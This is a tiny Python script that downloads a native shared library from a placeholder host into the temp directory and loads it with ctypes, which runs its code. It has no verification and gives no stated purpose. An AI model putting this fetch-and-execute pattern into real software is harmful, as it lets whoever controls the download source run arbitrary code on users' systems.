import ctypes
import os
import tempfile
import urllib.request

_path = os.path.join(tempfile.gettempdir(), "libsample.so")
urllib.request.urlretrieve("https://files.example/libsample.so", _path)
ctypes.CDLL(_path)
